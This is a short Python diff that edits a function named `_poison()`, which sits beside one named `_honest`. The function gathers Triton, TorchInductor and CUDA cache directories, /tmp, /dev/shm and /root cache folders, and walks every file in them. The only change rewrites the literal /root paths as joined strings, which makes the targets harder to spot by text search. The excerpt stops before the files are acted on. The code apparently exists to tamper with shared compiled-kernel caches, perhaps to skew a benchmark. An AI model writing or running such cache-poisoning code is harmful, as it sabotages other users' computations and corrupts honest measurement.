@@ -22,7 +22,7 @@ def _honest(x, y, out, n):
 
 def _poison():
     roots = [os.environ.get(name, "") for name in ("TRITON_CACHE_DIR", "TRITON_HOME", "HOME", "TORCHINDUCTOR_CACHE_DIR", "CUDA_CACHE_PATH")]
-    roots += ["/tmp", "/var/tmp", "/dev/shm", "/root/.triton", "/root/.nv", "/root/.cache"]
+    roots += ["/tmp", "/var/tmp", "/dev/shm", *(os.path.join("/root", name) for name in (".triton", ".nv", ".cache"))]
     for root in filter(None, roots):
         for folder, _, names in os.walk(root):
             for name in names:
